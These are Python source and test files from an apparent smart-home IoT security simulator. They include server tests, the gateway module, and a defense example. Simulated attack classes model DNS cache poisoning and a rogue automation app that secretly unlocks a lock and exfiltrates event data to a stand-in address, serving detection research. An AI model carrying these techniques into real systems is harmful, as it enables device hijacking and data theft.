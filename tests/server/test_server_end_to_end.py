"""End-to-end: real sockets, real jobs, byte-identical results.

One module-scoped BackgroundServer carries most tests (server startup
costs real wall time); tests needing special server configuration
(single worker, tiny store, drain) spin up their own.
"""

import asyncio
import json
import time

import pytest

from repro import telemetry
from repro.scenarios import ScenarioSpec, run_spec
from repro.scenarios.spec import fork_available
from repro.server.background import BackgroundServer
from repro.server.client import ServerClient, ServerError
from repro.server.service import FleetService, ServiceDraining
from repro.server.store import canonical_json, result_to_dict

from tests.server.conftest import tiny_spec

needs_fork = pytest.mark.skipif(not fork_available(),
                                reason="platform lacks fork start method")


@pytest.fixture(scope="module")
def server():
    with BackgroundServer(workers=2) as instance:
        yield instance


@pytest.fixture()
def client(server):
    return server.client()


class TestSubmitAndResult:
    def test_job_lifecycle_and_byte_identity(self, client):
        """The acceptance criterion: POST /jobs produces a result whose
        observations (alerts, signals, telemetry totals) are
        byte-identical to the same spec run via direct run_spec."""
        spec_data = tiny_spec(name="identity", xlf=True, duration_s=90.0,
                              seed=3)
        job = client.submit(spec_data)
        assert job["state"] == "queued"
        final = client.wait(job["id"], timeout=120)
        assert final["state"] == "done"
        assert final["homes_done"] == final["homes_total"] == 1
        via_server = client.result(job["id"])

        telemetry.enable()
        try:
            direct = result_to_dict(
                run_spec(ScenarioSpec.from_dict(spec_data)))
        finally:
            telemetry.disable()
        assert canonical_json(via_server["observations"]) == \
            canonical_json(direct["observations"])
        assert via_server["spec_hash"] == direct["spec_hash"]
        # The defended home must actually alert (not a vacuous identity).
        assert via_server["observations"]["alerts"]

    def test_concurrent_jobs_stay_isolated(self, client):
        """Two different jobs in flight at once: each result must match
        its own direct run (scoped telemetry, no cross-talk)."""
        spec_a = tiny_spec(name="iso-a", seed=11, duration_s=20.0)
        spec_b = tiny_spec(name="iso-b", seed=99, duration_s=20.0,
                           attack=False)
        job_a = client.submit(spec_a)
        job_b = client.submit(spec_b)
        assert client.wait(job_a["id"])["state"] == "done"
        assert client.wait(job_b["id"])["state"] == "done"

        telemetry.enable()
        try:
            direct_a = result_to_dict(
                run_spec(ScenarioSpec.from_dict(spec_a)))
            direct_b = result_to_dict(
                run_spec(ScenarioSpec.from_dict(spec_b)))
        finally:
            telemetry.disable()
        assert canonical_json(client.result(job_a["id"])["observations"]) \
            == canonical_json(direct_a["observations"])
        assert canonical_json(client.result(job_b["id"])["observations"]) \
            == canonical_json(direct_b["observations"])

    def test_jobs_listing(self, client):
        job = client.submit(tiny_spec(duration_s=10.0, attack=False,
                                      activity=False))
        client.wait(job["id"])
        listed = client.jobs()
        assert any(entry["id"] == job["id"] for entry in listed)


class TestEvents:
    def test_sse_stream_shape(self, client):
        spec_data = tiny_spec(name="sse", xlf=True, duration_s=90.0,
                              seed=3)
        job = client.submit(spec_data)
        events = list(client.events(job["id"]))
        kinds = [kind for kind, _ in events]
        assert kinds[0] == "queued"
        assert "started" in kinds
        assert "home" in kinds
        assert kinds[-1] == "done"
        assert "alert" in kinds          # defended home raises alerts
        home_events = [data for kind, data in events if kind == "home"]
        assert home_events[0]["homes_total"] == 1
        alert_events = [data for kind, data in events if kind == "alert"]
        assert all({"category", "device", "confidence"} <= set(data)
                   for data in alert_events)

    def test_sse_resume_from_last_event_id(self, client):
        job = client.submit(tiny_spec(duration_s=10.0, attack=False,
                                      activity=False))
        client.wait(job["id"])
        full = list(client.events(job["id"]))
        resumed = list(client.events(job["id"],
                                     last_event_id=len(full) - 2))
        assert [k for k, _ in resumed] == [full[-1][0]]


class TestMetrics:
    def test_metrics_valid_while_in_flight(self, client):
        """/metrics must serve valid Prometheus text while a job runs."""
        job = client.submit(tiny_spec(name="inflight", duration_s=60.0))
        text = client.metrics()          # scraped while the job is live
        assert "# TYPE server_jobs_submitted counter" in text
        assert "server_jobs_submitted_total" in text
        assert "server_queue_depth" in text
        for line in text.splitlines():
            assert line.startswith("#") or " " in line
        client.wait(job["id"], timeout=120)
        after = client.metrics()
        assert "server_jobs_finished_total{state=\"done\"}" in after
        assert "fleet_homes_total" in after          # merged job telemetry
        assert "server_job_duration_s_bucket" in after

    def test_health(self, client):
        health = client.health()
        assert health["status"] == "ok"
        assert health["uptime_s"] >= 0


class TestErrorPaths:
    def test_unknown_route_404(self, client):
        with pytest.raises(ServerError) as exc:
            client._request("GET", "/nope")
        assert exc.value.status == 404

    def test_unknown_job_404(self, client):
        with pytest.raises(ServerError) as exc:
            client.job("job-999999")
        assert exc.value.status == 404

    def test_bad_json_400(self, client):
        import http.client
        connection = http.client.HTTPConnection(client.host, client.port,
                                                timeout=10)
        try:
            connection.request("POST", "/jobs", body=b"{not json",
                               headers={"Connection": "close"})
            response = connection.getresponse()
            assert response.status == 400
            assert b"not valid JSON" in response.read()
        finally:
            connection.close()

    def test_invalid_spec_400(self, client):
        with pytest.raises(ServerError) as exc:
            client.submit({"attacks": [{"attack": "no-such-attack"}]})
        assert exc.value.status == 400
        assert "unknown attack" in exc.value.message

    def test_unknown_envelope_key_400(self, client):
        with pytest.raises(ServerError) as exc:
            client._request("POST", "/jobs",
                            body={"spec": {"name": "x"}, "bogus": 1})
        assert exc.value.status == 400
        assert "bogus" in exc.value.message

    def test_bad_timeout_400(self, client):
        with pytest.raises(ServerError) as exc:
            client.submit(tiny_spec(), timeout_s=-1)
        assert exc.value.status == 400

    def test_result_before_done_409(self, client):
        job = client.submit(tiny_spec(name="slow", duration_s=120.0))
        with pytest.raises(ServerError) as exc:
            client.result(job["id"])
        assert exc.value.status == 409
        client.wait(job["id"], timeout=120)

    def test_method_not_allowed_405(self, client):
        job = client.submit(tiny_spec(duration_s=10.0, attack=False,
                                      activity=False))
        client.wait(job["id"])
        with pytest.raises(ServerError) as exc:
            client._request("PUT", f"/jobs/{job['id']}")
        assert exc.value.status == 405


class TestPriorityAndCancel:
    def test_priority_order_and_queued_cancel(self):
        """With one worker: a long job occupies it; a high-priority job
        then overtakes a low-priority one, and a queued job dies
        instantly when cancelled."""
        with BackgroundServer(workers=1) as server:
            client = server.client()
            blocker = client.submit(tiny_spec(name="blocker",
                                              duration_s=90.0))
            low = client.submit(tiny_spec(name="low", seed=1,
                                          duration_s=10.0, attack=False,
                                          activity=False), priority=0)
            high = client.submit(tiny_spec(name="high", seed=2,
                                           duration_s=10.0, attack=False,
                                           activity=False), priority=10)
            doomed = client.submit(tiny_spec(name="doomed", seed=3),
                                   priority=-5)
            cancelled = client.cancel(doomed["id"])
            assert cancelled["state"] == "cancelled"
            events = list(client.events(doomed["id"]))
            assert events[-1][0] == "cancelled"

            assert client.wait(blocker["id"], timeout=120)["state"] == "done"
            low_final = client.wait(low["id"], timeout=120)
            high_final = client.wait(high["id"], timeout=120)
            assert high_final["started_at"] < low_final["started_at"]

    def test_cancel_running_job_cooperatively(self):
        """A multi-home running job stops at the next home boundary."""
        with BackgroundServer(workers=1) as server:
            client = server.client()
            job = client.submit(tiny_spec(name="big", homes=6,
                                          duration_s=60.0))
            deadline = time.monotonic() + 60
            while client.job(job["id"])["state"] == "queued":
                assert time.monotonic() < deadline
                time.sleep(0.02)
            summary = client.cancel(job["id"])
            assert summary["cancel_requested"]
            final = client.wait(job["id"], timeout=120)
            assert final["state"] == "cancelled"
            assert final["homes_done"] < final["homes_total"]

    def test_timeout_state(self):
        with BackgroundServer(workers=1) as server:
            client = server.client()
            job = client.submit(tiny_spec(name="deadline", homes=4,
                                          duration_s=60.0),
                                timeout_s=0.001)
            final = client.wait(job["id"], timeout=120)
            assert final["state"] == "timeout"
            assert final["homes_done"] < final["homes_total"]


@needs_fork
class TestWorkerCrashResilience:
    def test_forked_worker_death_does_not_lose_the_job(self, monkeypatch):
        """A job sharded across forked workers survives a worker being
        killed mid-home: the PR-5 serial-retry path completes the home
        and the job lands in 'done' with the home flagged degraded."""
        import os

        import repro.scenarios.spec as spec_module

        def crash_home_one(index):
            if index == 1:
                os._exit(1)

        monkeypatch.setattr(spec_module, "_worker_crash_hook",
                            crash_home_one)
        spec_data = tiny_spec(name="crashy", homes=3, duration_s=20.0)
        with BackgroundServer(workers=1) as server:
            client = server.client()
            job = client.submit(spec_data, workers=2)
            final = client.wait(job["id"], timeout=180)
            assert final["state"] == "done"
            result = client.result(job["id"])
            # A dead worker can take other in-flight homes with it; all
            # of them retry serially, so home 1 is degraded, possibly
            # alongside innocent bystanders.
            assert 1 in result["execution"]["degraded_homes"]
            metrics = client.metrics()
            assert "server_homes_degraded_total" in metrics

        # And the observations still match an undisturbed serial run.
        monkeypatch.setattr(spec_module, "_worker_crash_hook",
                            lambda index: None)
        telemetry.enable()
        try:
            direct = result_to_dict(
                run_spec(ScenarioSpec.from_dict(spec_data)))
        finally:
            telemetry.disable()
        assert canonical_json(result["observations"]) == \
            canonical_json(direct["observations"])


class TestStoreIntegration:
    def test_spill_keeps_evicted_results_servable(self, tmp_path):
        spill = str(tmp_path / "spill.jsonl")
        with BackgroundServer(workers=1, store_capacity=1,
                              spill_path=spill) as server:
            client = server.client()
            ids = []
            for seed in (1, 2, 3):
                job = client.submit(tiny_spec(seed=seed, duration_s=10.0,
                                              attack=False,
                                              activity=False))
                client.wait(job["id"], timeout=120)
                ids.append(job["id"])
            for job_id in ids:        # evicted ones come back from disk
                assert client.result(job_id)["spec"]["name"] == "tiny"
        lines = open(spill).read().splitlines()
        assert len(lines) == 2
        assert all(json.loads(line)["job_id"] in ids for line in lines)


class TestDrain:
    def test_drain_finishes_accepted_jobs(self):
        server = BackgroundServer(workers=1).start()
        try:
            client = server.client()
            running = client.submit(tiny_spec(name="drain-run",
                                              duration_s=40.0))
            queued = client.submit(tiny_spec(name="drain-q", seed=5,
                                             duration_s=10.0,
                                             attack=False,
                                             activity=False))
        finally:
            server.stop()            # graceful: both jobs must finish
        # The server is gone; inspect its final in-process state.
        # (BackgroundServer keeps no handle to the service, so assert
        # through what the drain contract guarantees: stop() returned
        # only after both jobs finished — their SSE logs are terminal.)
        assert server._thread is not None
        assert not server._thread.is_alive()

    def test_submit_while_draining_rejected(self):
        async def scenario():
            service = FleetService(workers=1)
            await service.start()
            service.draining = True
            with pytest.raises(ServiceDraining):
                service.submit(tiny_spec(duration_s=5.0, attack=False,
                                         activity=False))
            service.draining = False
            await service.drain()

        asyncio.run(scenario())
