"""ResultStore bounding and JSONL spill-to-disk."""

import json

import pytest

from repro.server.store import ResultStore


def payload(i):
    return {"spec_hash": f"hash-{i}", "observations": {"alerts": [i]}}


class TestBounding:
    def test_keeps_newest_in_memory(self):
        store = ResultStore(capacity=2)
        for i in range(4):
            store.put(f"job-{i}", payload(i))
        assert store.in_memory() == 2
        assert store.get("job-3") == payload(3)
        assert store.get("job-2") == payload(2)

    def test_evicted_without_spill_is_dropped(self):
        store = ResultStore(capacity=1)
        store.put("a", payload(0))
        store.put("b", payload(1))
        assert store.get("a") is None
        assert store.dropped == 1
        assert "a" not in store
        assert "b" in store

    def test_capacity_validation(self):
        with pytest.raises(ValueError):
            ResultStore(capacity=0)


class TestSpill:
    def test_evicted_results_spill_and_reload(self, tmp_path):
        spill = str(tmp_path / "results.jsonl")
        store = ResultStore(capacity=1, spill_path=spill)
        for i in range(5):
            store.put(f"job-{i}", payload(i))
        assert store.in_memory() == 1
        assert store.spilled == 4
        # Every result, evicted or resident, is still retrievable.
        for i in range(5):
            assert store.get(f"job-{i}") == payload(i), i
        assert len(store) == 5

    def test_spill_file_is_valid_jsonl(self, tmp_path):
        spill = str(tmp_path / "results.jsonl")
        store = ResultStore(capacity=1, spill_path=spill)
        for i in range(3):
            store.put(f"job-{i}", payload(i))
        lines = open(spill).read().splitlines()
        assert len(lines) == 2          # two evictions
        records = [json.loads(line) for line in lines]
        assert [r["job_id"] for r in records] == ["job-0", "job-1"]
        assert records[0]["result"] == payload(0)

    def test_unknown_job_returns_none(self, tmp_path):
        store = ResultStore(capacity=2,
                            spill_path=str(tmp_path / "r.jsonl"))
        store.put("known", payload(0))
        assert store.get("missing") is None
        assert "missing" not in store
