"""Served multi-home worm specs: the exchange engine behind REST jobs.

The resident service must run cross-home specs through the same
lockstep-epoch engine as direct ``run_spec`` and serve byte-identical
observations — including the fleet exchange telemetry and the merged
union outcomes.
"""

import pytest

from repro import telemetry
from repro.scenarios import ScenarioSpec, run_spec
from repro.scenarios.spec import fork_available
from repro.server.background import BackgroundServer
from repro.server.store import canonical_json, result_to_dict

needs_fork = pytest.mark.skipif(not fork_available(),
                                reason="platform lacks fork start method")


def worm_spec_data(name="worm-served", n_homes=3, seed=5):
    from repro.scenarios import AttackSpec, HomeSpec

    spec = ScenarioSpec(
        name=name, seed=seed, warmup_s=10.0, duration_s=120.0,
        homes=[HomeSpec() for _ in range(n_homes)],
        attacks=[AttackSpec(attack="wan-worm", home=0, at=5.0,
                            params={"fanout": 2})],
        epoch_s=30.0,
        collect_features=True,
    )
    return spec.to_dict()


@needs_fork
class TestServedWormSpec:
    @pytest.fixture(scope="class")
    def server(self):
        with BackgroundServer(workers=2) as instance:
            yield instance

    def test_served_worm_observations_byte_identical(self, server):
        """Regression for the process-global-id class of bug: a served
        run and a direct run in a different process (with different
        allocation history) must produce identical observation bytes."""
        spec_data = worm_spec_data()
        client = server.client()
        job = client.submit(spec_data)
        final = client.wait(job["id"], timeout=300)
        assert final["state"] == "done"
        assert final["homes_done"] == final["homes_total"] == 3
        via_server = client.result(job["id"])

        telemetry.enable()
        try:
            direct = result_to_dict(
                run_spec(ScenarioSpec.from_dict(spec_data)))
        finally:
            telemetry.disable()
        assert canonical_json(via_server["observations"]) == \
            canonical_json(direct["observations"])
        assert via_server["spec_hash"] == direct["spec_hash"]
        # Not a vacuous identity: the worm actually crossed homes.
        assert len(via_server["observations"]["infected"]) > 0
