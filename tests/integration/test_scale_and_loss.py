"""Scale and lossy-link robustness of the full framework."""

import time

import pytest

from repro.attacks import MiraiBotnet
from repro.core import XLF, XlfConfig
from repro.device.device import DEVICE_TYPES, Vulnerabilities
from repro.metrics import score_detection
from repro.network import Link, Node, Packet
from repro.scenarios import SmartHome, SmartHomeConfig
from repro.sim import Simulator


def test_large_home_detection_still_exact():
    """40 devices, two vulnerable: XLF flags exactly the infected set."""
    devices = []
    type_names = sorted(DEVICE_TYPES)
    for i in range(40):
        type_name = type_names[i % len(type_names)]
        vulns = Vulnerabilities()
        if i in (3, 17):  # two vulnerable devices in the crowd
            vulns = Vulnerabilities(default_credentials=True,
                                    open_telnet=True)
        devices.append((type_name, vulns))
    home = SmartHome(SmartHomeConfig(devices=devices, seed=42))
    home.run(5.0)
    xlf = XLF(home.sim, home.gateway, home.cloud, home.devices,
              home.all_lan_links, XlfConfig.full())
    xlf.refresh_allowlists()
    attack = MiraiBotnet(home, run_ddos=False)
    attack.launch()
    start = time.perf_counter()
    home.run(home.sim.now + 300.0)
    wall = time.perf_counter() - start
    truth = attack.outcome().compromised_devices
    assert len(truth) == 2
    detected = {a.device for a in xlf.alerts
                if a.category == "botnet-infection"}
    metrics = score_detection(detected, truth)
    assert metrics.f1 == 1.0
    assert wall < 120, f"simulation too slow at scale: {wall:.1f}s"


class Sink(Node):
    def __init__(self, sim, name):
        super().__init__(sim, name)
        self.seen = []

    def handle_packet(self, packet, interface):
        self.seen.append(packet)


class TestLossyLinks:
    def test_loss_rate_validated(self):
        sim = Simulator()
        with pytest.raises(Exception):
            Link(sim, "wifi", loss_rate=1.0)
        with pytest.raises(Exception):
            Link(sim, "wifi", loss_rate=-0.1)

    def test_loss_rate_roughly_respected(self):
        sim = Simulator(seed=3)
        link = Link(sim, "wifi", name="lossy", loss_rate=0.3)
        a, b = Sink(sim, "a"), Sink(sim, "b")
        a.add_interface(link, "x")
        b.add_interface(link, "y")
        for _ in range(500):
            a.send(Packet(src="", dst="y"))
        sim.run()
        delivered = len(b.seen)
        assert 280 <= delivered <= 420  # ~0.7 of 500
        assert link.packets_lost == 500 - delivered

    def test_lossless_by_default(self):
        sim = Simulator()
        link = Link(sim, "wifi")
        a, b = Sink(sim, "a"), Sink(sim, "b")
        a.add_interface(link, "x")
        b.add_interface(link, "y")
        for _ in range(100):
            a.send(Packet(src="", dst="y"))
        sim.run()
        assert len(b.seen) == 100

    def test_observers_see_lost_packets(self):
        """A radio sniffer hears frames the receiver drops — loss applies
        at delivery, observation at transmission."""
        sim = Simulator(seed=1)
        link = Link(sim, "wifi", loss_rate=0.5)
        a, b = Sink(sim, "a"), Sink(sim, "b")
        a.add_interface(link, "x")
        b.add_interface(link, "y")
        observed = []
        link.add_observer(observed.append)
        for _ in range(100):
            a.send(Packet(src="", dst="y"))
        sim.run()
        assert len(observed) == 100
        assert len(b.seen) < 100

    def test_detection_survives_lossy_lan(self):
        """XLF's observers tap the link pre-loss, so a flaky radio does
        not blind the activity detector."""
        from repro.core.signals import SignalType
        from repro.security.network.activity import (
            DeviceBehaviorProfile,
            MaliciousActivityDetector,
        )
        from repro.device.device import get_device_spec

        sim = Simulator(seed=5)
        link = Link(sim, "wifi", loss_rate=0.4)
        device = Sink(sim, "camera-1")
        device.add_interface(link, "10.0.0.2")
        gw = Sink(sim, "gw")
        gw.add_interface(link, "10.0.0.1", default_route=True)
        signals = []
        detector = MaliciousActivityDetector(sim, report=signals.append)
        detector.register_device("camera-1", DeviceBehaviorProfile.
                                 from_device_spec(get_device_spec("camera"),
                                                  {"c"}))
        link.add_observer(detector.observe)
        for host in range(2, 14):
            device.send(Packet(src="", dst=f"10.0.0.{host}", dport=23,
                               src_device="camera-1"))
        sim.run()
        assert any(s.signal_type == SignalType.SCAN_PATTERN
                   for s in signals)
