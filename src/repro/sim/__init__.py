"""Deterministic discrete-event simulation kernel.

Every other subsystem in the reproduction (device, network, service layers
and the XLF security functions) runs on top of this kernel.  The design
goals are:

* **Determinism** — identical seeds and identical schedules of calls yield
  identical traces.  Ties in event time are broken by insertion order.
* **Generator processes** — long-running behaviours (a device's sensing
  loop, a botnet's scanning loop) are written as generators that ``yield``
  waits and events, in the style of SimPy.
* **Named RNG streams** — each component draws randomness from its own
  seeded stream so adding a component never perturbs another's draws.
"""

from repro.sim.engine import Event, Simulator, Timeout, Interrupt
from repro.sim.process import Process
from repro.sim.rng import RngRegistry
from repro.sim.resources import Resource, Store, Channel

__all__ = [
    "Event",
    "Simulator",
    "Timeout",
    "Interrupt",
    "Process",
    "RngRegistry",
    "Resource",
    "Store",
    "Channel",
]
