"""Autonomous defense: detection plus automated response.

XLF detects the botnet cross-layer, then the response engine executes
the playbook — quarantine, disinfect, rotate credentials, close telnet —
before the DDoS phase ever fires.  The victim never sees a packet, and
a second infection wave bounces off the rotated credentials.

Run:  python examples/autonomous_defense.py
"""

from repro.attacks import MiraiBotnet
from repro.core import XLF, XlfConfig
from repro.core.response import ResponseEngine
from repro.network.capture import PacketCapture
from repro.scenarios import SmartHome

home = SmartHome()
home.run(5.0)
xlf = XLF(home.sim, home.gateway, home.cloud, home.devices,
          home.all_lan_links, XlfConfig.full())
xlf.refresh_allowlists()
engine = ResponseEngine(xlf)

victim_tap = PacketCapture(home.sim, keep_packets=False)
home.internet.backbone.add_observer(victim_tap.observe)

attack = MiraiBotnet(home)  # full lifecycle, DDoS at t+120s
attack.launch()
home.run(400.0)

print("=== What the attacker achieved ===")
outcome = attack.outcome()
print(f"devices ever infected: {sorted(outcome.compromised_devices)}")
print(f"devices still infected: {outcome.details['still_infected'] or 'none'}")
flood_packets = sum(
    f.packets for key, f in victim_tap.flows.items()
    if key.dst == MiraiBotnet.VICTIM_ADDRESS
)
print(f"DDoS packets that reached the victim: {flood_packets}")

print("\n=== The response playbook, as executed ===")
for action in engine.actions:
    print(f"  t={action.timestamp:7.1f}s  {action.device:14s} "
          f"{action.action:24s} {action.detail}")

print("\n=== Second infection wave ===")
second = MiraiBotnet(home, run_ddos=False)
second.launch()
home.run(home.sim.now + 120.0)
reinfected = {d.name for d in home.devices if d.infected}
print(f"devices reinfected: {sorted(reinfected) or 'none'}")

assert flood_packets == 0, "quarantine failed to stop the flood"
assert not reinfected, "remediation failed to prevent reinfection"
print("\nDetected, contained, remediated, immunised — zero bytes reached "
      "the DDoS victim.")
