"""DNS cache poisoning (paper §IV-A.3).

A LAN-resident attacker observes a device's (plaintext) DNS query and
races a forged answer pointing the vendor hostname at an attacker
server.  Succeeds exactly when the home runs PLAIN DNS; DNSSEC and
DoT/DoH kill it — which is what the constrained-access experiment
measures.
"""

from __future__ import annotations

from typing import List, Optional

from repro.attacks.base import Attack, AttackOutcome
from repro.scenarios.spec import register_attack
from repro.network.dns import DnsAnswer, DnsQuery, DnsResolver
from repro.network.node import Node
from repro.network.packet import Packet


@register_attack
class DnsCachePoisoning(Attack):
    name = "dns-cache-poisoning"
    surface_layers = ("network", "device")
    table_ii_row = (
        "Plaintext, unauthenticated DNS",
        "Forged answers race the resolver",
        "Device traffic redirected to the attacker",
    )

    ATTACKER_SERVER = "198.18.0.53"

    def __init__(self, home, target_device_name: Optional[str] = None):
        super().__init__(home)
        self.target = (home.device(target_device_name)
                       if target_device_name else home.devices[0])
        lan = self.target.interfaces[0].link
        self.attacker = Node(self.sim, "dns-poisoner")
        self.attacker.add_interface(lan, home.gateway.assign_address())
        lan.add_observer(self._race_queries)
        self.poisoned: List[str] = []
        self._resolver: Optional[DnsResolver] = None

    def _launch(self) -> None:
        """Force a fresh resolution (cache expiry) on the target device."""
        # The device's resolver was created at build time; recreate a
        # reference by re-resolving through a new stub with a fresh cache.
        self._resolver = DnsResolver(
            self.target, self.home.dns_server.address,
            mode=self.home.config.dns_mode, client_port=5360,
        )

        def repair(address):
            if address is not None:
                self.target.pair_with_cloud(address, self.target.device_id)

        self._resolver.resolve(self.target.spec.cloud_hostname, repair)

    def _race_queries(self, packet: Packet) -> None:
        payload = packet.payload
        if not isinstance(payload, DnsQuery) or packet.encrypted:
            return
        if packet.src_device != self.target.name:
            return
        # Forge an answer with the observed txid, spoofed server source.
        forged = Packet(
            src=self.home.dns_server.address, dst=packet.src,
            sport=53, dport=packet.sport,
            protocol="udp", app_protocol="dns", size_bytes=120,
            payload=DnsAnswer(payload.qname, self.ATTACKER_SERVER,
                              payload.txid),
        )
        self.attacker.interfaces[0].link.transmit(forged)
        self.poisoned.append(payload.qname)

    def outcome(self) -> AttackOutcome:
        redirected = self.target.cloud_address == self.ATTACKER_SERVER
        return AttackOutcome(
            succeeded=redirected,
            compromised_devices={self.target.name} if redirected else set(),
            details={"forged_answers": len(self.poisoned),
                     "cloud_address": self.target.cloud_address},
        )
