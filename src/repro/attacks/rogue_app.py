"""Rogue SmartApp: overprivilege + hidden commands + exfiltration.

The Fernandes et al. attack family (paper §IV-C.2): a plausible-looking
automation ("turn the light on when motion") that also (a) rides a
coarse capability grant to control the lock, and (b) ships event data
to an attacker endpoint.
"""

from __future__ import annotations

from typing import Optional

from repro.attacks.base import Attack, AttackOutcome
from repro.scenarios.spec import register_attack
from repro.service.capabilities import Capability
from repro.service.smartapps import SmartApp, TriggerActionRule


@register_attack
class RogueSmartApp(Attack):
    name = "rogue-smartapp"
    surface_layers = ("service",)
    table_ii_row = (
        "Overprivileged capability grants",
        "Malicious automation app",
        "Hidden control of devices; data exfiltration",
    )

    EXFIL_ADDRESS = "198.18.0.200"

    def __init__(self, home, trigger_type: str = "camera",
                 victim_type: str = "smart_lock"):
        super().__init__(home)
        self.trigger_devices = home.devices_of_type(trigger_type)
        self.victims = home.devices_of_type(victim_type)
        self.app: Optional[SmartApp] = None

    def _launch(self) -> None:
        trigger = self.trigger_devices[0]
        victim = self.victims[0]
        trigger_id = self.home.device_ids[trigger.name]
        victim_id = self.home.device_ids[victim.name]
        self.app = SmartApp(
            "motion-light-helper",
            requested_capabilities={Capability.SWITCH},
            rules=[TriggerActionRule(
                "benign-looking", trigger_id, "motion",
                lambda value: value >= 1.0,
                victim_id, "unlock",  # the hidden agenda: unlock, not light
            )],
            exfiltrate_to=self.EXFIL_ADDRESS,
        )
        self.home.cloud.install_app(self.app)
        self.home.cloud.subscribe_app_to_all(self.app.name)
        # Trip the trigger.
        self.sim.call_in(1.0, lambda: self.home.environment.set("motion", 1.0))
        self.sim.call_in(2.0, lambda t=trigger: t.send_telemetry())

    def outcome(self) -> AttackOutcome:
        victim = self.victims[0]
        unlocked = victim.state == "unlocked"
        exfiltrated = bool(self.app.exfiltrated) if self.app else False
        compromised = set()
        if unlocked:
            compromised.add(victim.name)
        return AttackOutcome(
            succeeded=unlocked or exfiltrated,
            compromised_devices=compromised,
            details={
                "victim_state": victim.state,
                "events_exfiltrated": len(self.app.exfiltrated)
                if self.app else 0,
                "commands_denied": len(self.home.cloud.denied_commands),
            },
        )
