"""The smart home gateway: NAT, firewall, DHCP-style addressing, and the
middleware chokepoint where XLF's network-layer functions install.

The paper repeatedly singles out the smart gateway as the natural home
for XLF capabilities ("the delegation proxy", "deployed in the network
layer by extending the existing smart IoT gateway") — so the gateway
exposes first-class hooks: an egress/ingress middleware chain (used by
the traffic shaper and the encrypted-traffic monitor) and observer taps
(used by malicious-activity identification and by adversaries modelling
a compromised vantage point).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from repro.network.node import Interface, Link, NetworkError, Node
from repro.network.packet import Packet
from repro.sim import Simulator
from repro import telemetry as _telemetry


@dataclass(frozen=True)
class FirewallRule:
    """Block rule; fields set to None act as wildcards."""

    direction: str                 # "inbound" | "outbound" | "any"
    dport: Optional[int] = None
    protocol: Optional[str] = None
    address: Optional[str] = None  # matched against the remote address
    action: str = "block"          # only "block" rules exist; default allow

    def matches(self, packet: Packet, direction: str) -> bool:
        if self.direction not in ("any", direction):
            return False
        if self.dport is not None and packet.dport != self.dport:
            return False
        if self.protocol is not None and self.protocol not in (
            packet.protocol, packet.app_protocol
        ):
            return False
        if self.address is not None:
            remote = packet.dst if direction == "outbound" else packet.src
            if remote != self.address:
                return False
        return True


# Middleware receives (packet, direction) and returns a list of
# (delay_seconds, packet) emissions; returning [] drops the packet.
Middleware = Callable[[Packet, str], List[Tuple[float, Packet]]]


class Gateway(Node):
    """Smart home gateway bridging LAN link(s) to the WAN."""

    def __init__(self, sim: Simulator, name: str = "gateway",
                 public_address: str = "203.0.113.1",
                 lan_prefix: str = "10.0.0"):
        super().__init__(sim, name)
        self.public_address = public_address
        self.lan_prefix = lan_prefix
        self._next_host = 2  # .1 is the gateway itself
        self._next_nat_port = 40000
        # NAT: (lan_addr, lan_port, remote, remote_port, proto) <-> ext port
        self._nat_out: Dict[Tuple, int] = {}
        self._nat_in: Dict[int, Tuple] = {}
        self.firewall_rules: List[FirewallRule] = []
        self.egress_middleware: List[Middleware] = []
        self.ingress_middleware: List[Middleware] = []
        self._wan_interface: Optional[Interface] = None
        self._lan_interfaces: List[Interface] = []
        self.nat_translations = 0
        self.blocked_packets: List[Packet] = []
        # Home-alone (cloud-outage) posture: the gateway keeps
        # forwarding locally but counts WAN-bound packets seen while
        # isolated so the framework can size the observation backlog it
        # re-syncs on recovery.
        self.local_mode = False
        self.local_mode_entries = 0
        self._local_mode_wan_packets = 0

    # -- wiring --------------------------------------------------------------
    def connect_lan(self, link: Link) -> Interface:
        address = f"{self.lan_prefix}.1"
        if any(i.address == address for i in self._lan_interfaces):
            address = f"{self.lan_prefix}.1:{len(self._lan_interfaces)}"
        interface = self.add_interface(link, address, default_route=True)
        self._lan_interfaces.append(interface)
        return interface

    def connect_wan(self, link: Link) -> Interface:
        if self._wan_interface is not None:
            raise NetworkError("gateway already has a WAN uplink")
        self._wan_interface = self.add_interface(link, self.public_address)
        return self._wan_interface

    def assign_address(self) -> str:
        """DHCP-style LAN address allocation."""
        address = f"{self.lan_prefix}.{self._next_host}"
        self._next_host += 1
        return address

    def is_lan_address(self, address: str) -> bool:
        return address.startswith(self.lan_prefix + ".")

    # -- fault injection ---------------------------------------------------------
    def restart(self) -> None:
        """Begin a cold restart: every interface drops and the volatile
        NAT table is lost (established flows must re-NAT afterwards)."""
        for interface in self.interfaces:
            interface.up = False
        self._nat_out.clear()
        self._nat_in.clear()

    def complete_restart(self) -> None:
        """Finish the restart: interfaces come back up (NAT stays empty
        until traffic rebuilds it)."""
        for interface in self.interfaces:
            interface.up = True

    # -- home-alone (gateway-local) mode ------------------------------------------
    def enter_local_mode(self) -> None:
        """Cloud unreachable: start tallying deferred WAN observations."""
        if self.local_mode:
            return
        self.local_mode = True
        self.local_mode_entries += 1
        self._local_mode_wan_packets = 0
        if _telemetry.ENABLED:
            _telemetry.registry().counter("gw.local_mode.entered").inc()

    def exit_local_mode(self) -> int:
        """Cloud back: return how many WAN-bound packets were seen while
        isolated (the deferred-observation backlog)."""
        if not self.local_mode:
            return 0
        self.local_mode = False
        count = self._local_mode_wan_packets
        self._local_mode_wan_packets = 0
        if _telemetry.ENABLED:
            registry = _telemetry.registry()
            registry.counter("gw.local_mode.exited").inc()
            registry.counter("gw.local_mode.deferred_wan").inc(count)
        return count

    # -- policy ----------------------------------------------------------------
    def add_firewall_rule(self, rule: FirewallRule) -> None:
        self.firewall_rules.append(rule)

    def _blocked(self, packet: Packet, direction: str) -> bool:
        return any(rule.matches(packet, direction) for rule in self.firewall_rules)

    # -- forwarding ------------------------------------------------------------
    def receive(self, packet: Packet, interface: Interface) -> None:
        self.packets_received += 1
        # Packets addressed to the gateway itself (auth proxy, DNS
        # forwarder, ...) go to bound port handlers.
        if packet.dst in (interface.address, self.public_address) and (
            packet.dport in self._port_handlers
            and not (interface is self._wan_interface and packet.dport in self._nat_in)
        ):
            self._port_handlers[packet.dport](packet, interface)
            return
        if interface is self._wan_interface:
            self._inbound(packet)
        else:
            self._outbound(packet, interface)

    def _outbound(self, packet: Packet, lan_interface: Interface) -> None:
        if self.is_lan_address(packet.dst):
            # LAN-to-LAN traffic on another LAN link.
